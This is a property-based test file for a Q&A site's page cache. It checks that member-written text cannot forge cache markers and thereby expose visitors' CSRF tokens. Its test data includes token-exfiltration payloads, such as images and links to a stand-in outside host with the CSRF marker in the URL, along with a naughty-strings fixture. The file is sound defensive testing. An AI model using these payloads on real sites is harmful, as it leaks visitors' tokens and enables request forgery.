// Property: no text a member writes can act as a page-cache marker. Every marker form (the old `@@…@@`
// placeholders, the current `<U+E000…U+E000>` markers raw, escaped and inside Markdown), every string of the
// Big List of Naughty Strings and arbitrary strings go into every user field (title, question body, answer,
// comment, username and display name, tag); every page the signed-out cache keeps (home, lists, a tag's list,
// the tag list, the thread), as a browser and as a crawler, gzipped and not, first rendered and then kept,
// must answer 200 with the visitor's CSRF token only in the page's forms and its csrf-token meta tag.
import zlib from 'node:zlib';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { users } from '../../src/db/schema.ts';
import { postAnswer } from '../../src/features/answers/service.ts';
import { addComment } from '../../src/features/comments/service.ts';
import { askQuestion, logSearchChange } from '../../src/features/questions/service.ts';
import { renderMarkdown } from '../../src/lib/markdown.ts';
import { BLNS } from '../fixtures/hostile.ts';
import { createSession } from '../../src/features/accounts/sessions.ts';
import { Browser, BROWSER_USER_AGENT, buildTestApp, createUser, loginAs, posterOf, type TestApp } from '../helper.ts';

const P = '\uE000';
/** Every form a marker has had or could be guessed to have, raw and as Markdown would carry it. */
const MARKERS = [
  '@@csrf-token@@',
  '@@hole:zz@@',
  '@@hole:views@@',
  `<${P}csrf${P}>`,
  `<${P}hole:views${P}>`,
  `<${P}hole:zz${P}>`,
  `${P}csrf${P}`,
  `&lt;${P}csrf${P}&gt;`,
  `&#60;${P}csrf${P}&#62;`,
  `&#x3c;&#xe000;csrf&#xe000;&#x3e;`,
  '![x](https://elsewhere.example/@@csrf-token@@.png)',
  `![x](https://elsewhere.example/<${P}csrf${P}>.png)`,
  `<img src="https://elsewhere.example/<${P}csrf${P}>.png">`,
  `<a href="https://elsewhere.example/?t=<${P}csrf${P}>">x</a>`,
  `[x](https://elsewhere.example/?t=%3C%EE%80%80csrf%EE%80%80%3E)`,
  '`<\uE000csrf\uE000>`',
  '```\n<\uE000hole:views\uE000>\n```',
  `<${P}csrf${P}><${P}csrf${P}><${P}hole:views${P}>`,
  // The member page's region slots (features/questions/member-thread.ts).
  `<${P}region:0${P}>`,
  `<${P}region:3${P}><${P}region:999${P}>`,
  `\`<${P}region:1${P}>\``,
];

const FIELDS = ['title', 'body', 'answer', 'comment', 'username', 'tag'] as const;
type Values = Record<(typeof FIELDS)[number], string>;

const CRAWLER_UA = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const VARIANTS = [
  { name: 'browser, identity', headers: { 'user-agent': BROWSER_USER_AGENT }, crawler: false },
  { name: 'browser, gzip', headers: { 'user-agent': BROWSER_USER_AGENT, 'accept-encoding': 'gzip, deflate, br' }, crawler: false },
  { name: 'crawler, identity', headers: { 'user-agent': CRAWLER_UA }, crawler: true },
  { name: 'crawler, gzip', headers: { 'user-agent': CRAWLER_UA, 'accept-encoding': 'gzip' }, crawler: true },
  // A signed-in member: the thread from its kept skeleton with the member's regions filled in.
  { name: 'member, identity', headers: { 'user-agent': BROWSER_USER_AGENT }, crawler: false, member: true },
  { name: 'member, gzip', headers: { 'user-agent': BROWSER_USER_AGENT, 'accept-encoding': 'gzip' }, crawler: false, member: true },
];
let memberCookie = '';

let t: TestApp;
let ids: { question: number; answer: number; questionComment: number; answerComment: number; author: number; answerer: number; tag: number };
let threadUrl: string;

beforeAll(async () => {
  t = await buildTestApp();
  const settings = { ...t.app.settings(), secondsBetweenPosts: 0, newMemberSecondsBetweenPosts: 0 };
  const poster = (id: number) => posterOf(t.db, id);
  const author = await createUser(t.db, 'moderator');
  const answerer = await createUser(t.db, 'moderator');
  const question = askQuestion(t.db, poster(author.id), { title: 'The modem light blinks orange after the storm', body: 'Since the storm the modem light blinks orange.', tags: ['modem', 'hostile'] }, settings);
  const answer = postAnswer(t.db, poster(answerer.id), question.id, { body: 'Unplug it for ten seconds and plug it in again.' }, settings);
  const questionComment = addComment(t.db, poster(answerer.id), { postType: 'question', postId: question.id, body: 'Which model is it?' }, settings);
  const answerComment = addComment(t.db, poster(author.id), { postType: 'answer', postId: answer.id, body: 'That worked, thanks.' }, settings);
  const tag = t.db.$client.prepare("select id from tags where name = 'hostile'").pluck().get() as number;
  ids = { question: question.id, answer: answer.id, questionComment: questionComment.id, answerComment: answerComment.id, author: author.id, answerer: answerer.id, tag };
  // The thread's URL stays put whatever its title (the slug is not recomputed behind the service's back).
  threadUrl = question.url;
  const member = await createUser(t.db, 'member');
  memberCookie = `resuelto_session=${createSession(t.db, member.id, 'cookie', t.app.settings()).token}`;
});

afterAll(async () => {
  await t.close();
});

/**
 * Writes the values straight into the rows (so that every string reaches the pages, also those the forms
 * refuse), posts through the Markdown pipeline as the services do, and logs the change as every write does.
 */
function write(values: Values): void {
  const db = t.db.$client;
  db.transaction(() => {
    db.prepare('update questions set title = ?, body_md = ?, body_html = ? where id = ?').run(values.title, values.body, renderMarkdown(values.body), ids.question);
    db.prepare('update answers set body_md = ?, body_html = ? where id = ?').run(values.answer, renderMarkdown(values.answer), ids.answer);
    db.prepare('update comments set body = ? where id in (?, ?)').run(values.comment, ids.questionComment, ids.answerComment);
    db.prepare('update users set username = ?, display_name = ? where id in (?, ?)').run(values.username, values.username, ids.author, ids.answerer);
    // Tag names are unique: the hostile tag cannot take the name of another one.
    db.prepare('update tags set name = ? where id = ?').run(['modem', 'router'].includes(values.tag) ? `${values.tag}!` : values.tag, ids.tag);
    logSearchChange(t.db, ids.question, new Date());
  })();
}

const PAGES = () => ['/', '/questions', '/questions?sort=active', '/questions?tag=modem', '/tags', threadUrl];

function html(response: LightMyRequestResponse): string {
  return response.headers['content-encoding'] === 'gzip' ? zlib.gunzipSync(response.rawPayload).toString('utf8') : response.body;
}

const count = (text: string, part: string) => (part === '' ? 0 : text.split(part).length - 1);

/** Every page, every variant: 200, no marker left, the token only where forms and the meta tag carry it. */
async function checkPages(label: string): Promise<void> {
  for (const url of PAGES()) {
    for (const variant of VARIANTS) {
      const where = `${label} — ${url} (${variant.name})`;
      const response = await t.app.inject({ method: 'GET', url, headers: { 'accept-language': 'en', ...variant.headers, ...('member' in variant ? { cookie: memberCookie } : {}) } });
      expect(response.statusCode, where).toBe(200);
      const page = html(response);
      if ('member' in variant) expect(page, where).toContain('action="/signout"');
      expect(page.includes(`<${P}`), where).toBe(false);
      const meta = /<meta name="csrf-token" content="([^"]*)">/.exec(page);
      expect(meta, where).not.toBeNull();
      const token = meta![1];
      const fields = [...page.matchAll(/name="_csrf" value="([^"]*)"/g)].map((match) => match[1]);
      expect(fields.length, where).toBeGreaterThan(0);
      for (const field of fields) expect(field, where).toBe(token);
      if (variant.crawler) {
        expect(token, where).toBe('');
      } else {
        expect(token, where).toMatch(/^[A-Za-z0-9_-]{20,}$/);
        // The token appears exactly once per form field and once in the meta tag: nowhere in the content.
        expect(count(page, token), where).toBe(fields.length + 1);
      }
    }
  }
}

describe('page-cache markers cannot be forged from content', () => {
  it('every marker form, in every field at once and in each field alone', async () => {
    const plain: Values = { title: 'The modem light blinks orange', body: 'Since the storm.', answer: 'Unplug it.', comment: 'Which model?', username: 'someone', tag: 'hostile' };
    for (const marker of MARKERS) {
      write({ title: marker, body: marker, answer: marker, comment: marker, username: marker, tag: marker });
      await checkPages(`all fields = ${JSON.stringify(marker)}`);
      for (const field of FIELDS) {
        write({ ...plain, [field]: `before ${marker} after` });
        await checkPages(`${field} = ${JSON.stringify(marker)}`);
      }
    }
    expect(t.app.pageCache.stats.refused).toBe(0);
    // The member pages came from skeletons, none refused for markers it did not print.
    expect(t.app.memberThreads.stats.served).toBeGreaterThan(0);
    expect(t.app.memberThreads.stats.declined).toBe(0);
  }, 120_000);

  it('the old attacks show as text: the title on every list and the image URL as written', async () => {
    write({ title: 'Help @@hole:zz@@ @@csrf-token@@', body: '![x](https://elsewhere.example/@@csrf-token@@.png)', answer: 'ok', comment: 'ok', username: 'someone', tag: 'hostile' });
    for (const url of ['/', '/questions', threadUrl]) {
      const page = (await t.app.inject({ method: 'GET', url, headers: { 'accept-language': 'en', 'user-agent': BROWSER_USER_AGENT } })).body;
      expect(page, url).toContain('Help @@hole:zz@@ @@csrf-token@@');
    }
    const thread = (await t.app.inject({ method: 'GET', url: threadUrl, headers: { 'accept-language': 'en', 'user-agent': BROWSER_USER_AGENT } })).body;
    expect(thread).toContain('src="https://elsewhere.example/@@csrf-token@@.png"');
  });

  it('through the real forms: a member posts markers in a title, body, answer and comment', async () => {
    const { browser } = await loginAs(t.app, t.db, 'moderator');
    const csrf = await browser.csrfToken('/questions/ask');
    const asked = await browser.submit('/questions/ask', { title: `Router ${MARKERS[1]} ${MARKERS[3]} question`, body: MARKERS.join('\n\n'), tags: 'router' }, { csrf });
    expect(asked.statusCode).toBe(303);
    const url = String(asked.headers.location);
    const id = Number(/\/questions\/(\d+)/.exec(url)![1]);
    const answered = await browser.submit(`/questions/${id}/answers`, { body: MARKERS.join('\n\n') }, { csrf });
    expect(answered.statusCode).toBe(303);
    const commented = await browser.submit('/comments', { postType: 'question', postId: String(id), body: `${MARKERS[0]} ${MARKERS[3]}` }, { csrf });
    expect([303, 200]).toContain(commented.statusCode);
    for (const variant of VARIANTS) {
      for (const page of ['/', '/questions', url]) {
        const response = await t.app.inject({ method: 'GET', url: page, headers: { 'accept-language': 'en', ...variant.headers } });
        expect(response.statusCode, `${page} ${variant.name}`).toBe(200);
        expect(html(response).includes(`<${P}`)).toBe(false);
      }
    }
  });

  it('every string of the Big List of Naughty Strings in every field', async () => {
    for (const text of BLNS) {
      write({ title: text, body: text, answer: text, comment: text, username: text, tag: text });
      await checkPages(`all fields = ${JSON.stringify(text)}`);
    }
    expect(t.app.pageCache.stats.refused).toBe(0);
  }, 300_000);

  it('the Markdown pipeline never writes a raw "<" before U+E000 (the premise of the proof for posts)', () => {
    const piece = fc.oneof(fc.constantFrom(...MARKERS), fc.constantFrom(...BLNS), fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom('<', '</', '<!--', '<![CDATA[', '<?', P, '&#xe000;', '`', '\n\n', '    '));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => !renderMarkdown(pieces.join('')).includes(`<${P}`)),
      { numRuns: 3000 },
    );
  });

  it('arbitrary strings with markers spliced in, a different one in each field', async () => {
    const piece = fc.oneof(fc.constantFrom(...MARKERS), fc.constantFrom(...BLNS), fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom('<', '>', '&', P, '"', "'", '`', '@@'));
    const text = fc.array(piece, { minLength: 1, maxLength: 6 }).map((pieces) => pieces.join(''));
    await fc.assert(
      fc.asyncProperty(fc.record({ title: text, body: text, answer: text, comment: text, username: text, tag: text }), async (values) => {
        write(values);
        await checkPages(JSON.stringify(values));
      }),
      { numRuns: 60 },
    );
    expect(t.app.pageCache.stats.refused).toBe(0);
    expect(t.app.pageCache.stats.hits).toBeGreaterThan(t.app.pageCache.stats.renders);
  }, 300_000);
});
